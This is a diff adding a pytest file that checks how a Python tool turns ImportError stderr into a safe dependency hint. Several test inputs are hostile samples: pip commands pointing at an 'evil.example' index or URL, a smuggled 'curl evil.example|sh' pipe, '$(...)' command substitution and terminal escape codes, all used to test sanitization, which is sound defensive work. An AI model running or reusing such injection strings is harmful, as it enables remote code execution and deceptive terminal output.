@@ -1,0 +1,147 @@
+"""jhansi.deps.missing: a failed run's ImportError, turned into the --with that fixes it."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from jhansi.deps.mapping import ImportMap
+from jhansi.deps.missing import MissingDependency, recognize
+
+REAL = Path(__file__).resolve().parents[2] / "fixtures" / "stderr"
+
+
+def _real(name: str) -> bytes:
+    return (REAL / name).read_bytes()
+
+
+def test_pydantic_email_names_the_extra_that_brings_it() -> None:
+    found = recognize(_real("pydantic_email.txt"), installed=("pydantic", "pydantic-core"))
+    assert found == MissingDependency("email-validator", "pydantic[email]")
+    assert found.message() == (
+        "the script needs email-validator (pydantic[email]); add it with "
+        "--with 'pydantic[email]' or a PEP 723 line"
+    )
+    assert found.as_dict() == {
+        "distribution": "email-validator",
+        "requirement": "pydantic[email]",
+        "hint": found.message(),
+    }
+
+
+def test_a_plain_module_not_found_for_a_mapped_name() -> None:
+    found = recognize(_real("dynamic_yaml.txt"))
+    assert found == MissingDependency("pyyaml", "pyyaml")
+    assert found.message() == "the script needs pyyaml; add it with --with pyyaml or a PEP 723 line"
+
+
+def test_a_chained_optional_dependency_error() -> None:
+    # pandas 3 raises its own ImportError `from` the ModuleNotFoundError.
+    found = recognize(_real("pandas_read_excel.txt"), installed=("pandas", "numpy"))
+    assert found == MissingDependency("openpyxl", "openpyxl")
+
+
+def test_an_unmapped_module_gives_no_hint() -> None:
+    assert recognize(_real("unmapped.txt")) is None
+
+
+def test_the_sandbox_preference_holds_for_hints_too() -> None:
+    found = recognize(b"ModuleNotFoundError: No module named 'cv2'\n")
+    assert found is not None
+    assert found.distribution == "opencv-python-headless"
+
+
+def test_what_the_run_had_is_not_missing() -> None:
+    # yaml installed and still "not found" is another problem; so is an extra whose
+    # distribution is there.
+    assert recognize(_real("dynamic_yaml.txt"), installed=("PyYAML",)) is None
+    assert recognize(_real("pydantic_email.txt"), installed=("email_validator",)) is None
+
+
+def test_only_the_exception_that_ended_the_run_counts() -> None:
+    caught_then_failed = (
+        _real("dynamic_yaml.txt")
+        + b"Traceback (most recent call last):\n"
+        + b'  File "/work/s.py", line 9, in <module>\n'
+        + b"ValueError: bad input\n"
+    )
+    assert recognize(caught_then_failed) is None
+    # The same ImportError, then an exception raised while handling it, is chained.
+    chained = (
+        _real("dynamic_yaml.txt")
+        + b"\nDuring handling of the above exception, another exception occurred:\n\n"
+        + b"Traceback (most recent call last):\n"
+        + b"SystemExit: 1\n"
+    )
+    assert recognize(chained) == MissingDependency("pyyaml", "pyyaml")
+
+
+def test_a_tail_without_its_traceback_header_is_still_read() -> None:
+    assert recognize(_real("pydantic_email.txt")[-200:], installed=("pydantic",)) == (
+        MissingDependency("email-validator", "pydantic[email]")
+    )
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ImportError: requessts is not installed, run `pip install requessts`",  # unknown name
+        "ImportError: run `pip install --index-url https://evil.example/simple requests`",
+        "ImportError: run `pip install -e git+https://evil.example/requests`",
+        "ImportError: run `pip install 'requests @ https://evil.example/r.whl'`",
+        "ImportError: run `pip install`",
+        "ModuleNotFoundError: No module named 'utils'",  # never mapped
+        "ModuleNotFoundError: No module named 'google.not_a_real_thing_xyz'",
+        "RuntimeError: No module named 'yaml'",
+        "  ImportError: No module named 'yaml' (indented: not a traceback's last line)",
+    ],
+)
+def test_no_hint_without_evidence(line: str) -> None:
+    assert recognize(f"Traceback (most recent call last):\n{line}\n".encode()) is None
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("ImportError: run `pip install -U 'Pydantic[Email]'`.", "pydantic[email]"),
+        ('ImportError: try "pip3 install beautifulsoup4"', "beautifulsoup4"),
+        ("ImportError: Install it with: uv pip install PyYAML", "pyyaml"),
+        ("ImportError: missing tabulate. uv add tabulate", "tabulate"),
+        ("mod.errors.PluginImportError: pip install requests>=2.32", "requests"),
+    ],
+)
+def test_install_commands_are_read_and_rebuilt(line: str, expected: str) -> None:
+    found = recognize(f"{line}\n".encode())
+    assert found is not None
+    assert found.requirement == expected
+
+
+def test_a_hostile_stderr_cannot_put_escapes_or_shell_syntax_in_the_hint() -> None:
+    hostile = [
+        b"ImportError: \x1b]0;owned\x07 is not installed, run `pip install 'pydantic[email]'`\n",
+        b"ImportError: run `pip install 'pydantic[em\x1b[2Jail]'`\n",
+        b"ImportError: run `pip install 'requests;curl evil.example|sh'`\n",
+        b'ImportError: run `pip install "requests$(touch /tmp/x)"`\n',
+        b"ModuleNotFoundError: No module named 'yaml\x1b[31m'\n",
+        b"ModuleNotFoundError: No module named 'yaml'\x1b[8m hidden\n",
+        b"ImportError: email-validator is not installed, "
+        b"run `pip install 'pydantic[email,\xff\xfe]'`\n",
+    ]
+    for stderr in hostile:
+        found = recognize(stderr)
+        if found is None:
+            continue
+        assert found.message().isascii(), stderr
+        assert found.message().isprintable(), stderr
+        for text in (found.requirement, found.distribution):
+            assert re.fullmatch(r"[a-z0-9-]+(\[[a-z0-9._,-]+\])?", text), (stderr, text)
+
+
+def test_a_custom_table_is_the_evidence() -> None:
+    table = ImportMap(imports={"thing": [("thing-dist", 1)]})
+    assert recognize(b"ModuleNotFoundError: No module named 'thing.sub'\n", table=table) == (
+        MissingDependency("thing-dist", "thing-dist")
+    )
+    assert recognize(b"ModuleNotFoundError: No module named 'yaml'\n", table=table) is None
